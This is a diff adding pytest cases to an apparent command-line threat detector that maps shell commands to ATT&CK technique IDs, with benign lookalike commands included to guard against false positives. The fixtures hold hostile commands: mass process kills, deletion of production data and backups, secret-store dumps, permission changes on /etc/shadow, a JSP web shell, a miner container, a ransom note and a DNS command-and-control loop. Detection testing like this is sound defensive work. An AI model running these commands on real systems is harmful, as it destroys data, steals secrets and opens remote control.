@@ -557,3 +557,53 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
 ])
 def test_their_routine_neighbours_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
+
+
+WHOLESALE_IMPACT_AND_SECRETS = [  # (line, technique, weight at least)
+    ("kill -9 -1", "T1489", 0.4),
+    ("pkill -f aliyun|qcloud|bcm-agent", "T1562.001", 0.5),
+    ("systemctl stop postgresql mysql nginx docker", "T1489", 0.35),
+    ("systemctl poweroff -i", "T1529", 0.2),
+    ("find / -name *.sql -delete", "T1485", 0.35),
+    ("kubectl delete namespace production --grace-period=0 --force", "T1485", 0.4),
+    ("aws s3 rb s3://prod-backups --force", "T1485", 0.45),
+    ("aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", "T1485", 0.35),
+    ("aws ssm get-parameters-by-path --path / --recursive --with-decryption", "T1555.006", 0.35),
+    ("vault kv get -format=json secret/prod/db", "T1555.006", 0.35),
+    ("setfacl -m u:www-data:rwx /etc/shadow", "T1222.002", 0.45),
+    ("chown -R www-data:www-data /etc/sudoers.d", "T1222.002", 0.45),
+    ("dpkg -i /dev/shm/.u.deb", "T1546.016", 0.35),
+    ("docker run -d --restart always attacker/xmr-miner", "T1496", 0.5),
+    ("echo 'YOUR FILES ARE ENCRYPTED. Send 0.5 BTC to 1A2b' > /var/www/html/index.html", "T1486", 0.5),
+    ("printf '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > /opt/tomcat/webapps/ROOT/s.jsp",
+     "T1505.003", 0.6),
+    ("""kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'""", "T1611", 0.5),
+]
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), WHOLESALE_IMPACT_AND_SECRETS)
+def test_wholesale_impact_and_secret_stores_are_named(line: str, technique: str, weight: float) -> None:
+    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
+
+
+@pytest.mark.parametrize(("body", "technique"), [
+    ('while :; do c=$(dig +short TXT cmd.c2.example); sh -c "$c"; sleep 30; done', "T1071.004"),
+    ('kill -9 $(pgrep -f "aliyun|qcloud|bcm-agent")', "T1562.001"),
+    ("docker rm -f $(docker ps -aq)", "T1489"),
+])
+def test_what_a_script_does_with_its_substitutions_is_named(body: str, technique: str) -> None:
+    found = {e.technique for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body))) if e.weight >= 0.3}
+    assert technique in found, (body, found)
+
+
+@pytest.mark.parametrize("line", [
+    "kill -1 1234", "kill -HUP 1", "systemctl stop nginx php8.2-fpm", "systemctl restart nginx php-fpm redis",
+    "find /var/backups -name *.bak -mtime +30 -delete", "find / -name *.bak -mtime +30 -delete",
+    "docker rm -f web", "kubectl delete pod web-0", "aws s3 rm s3://bucket/old.log",
+    "aws ssm get-parameter --name /app/url", "chown root:root /etc/sudoers.d/90-admins",
+    "chown www-data:www-data /var/www/html/storage", "setfacl -m u:deploy:rwx /srv/app",
+    "rpm -ivh /tmp/epel-release-latest-9.noarch.rpm", "echo maintenance > /var/www/html/index.html",
+    "dig TXT example.com", "pgrep -f gunicorn", "docker run --rm -v /srv/ci:/src builder make",
+])
+def test_neighbouring_routines_stay_below_alert_evidence(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
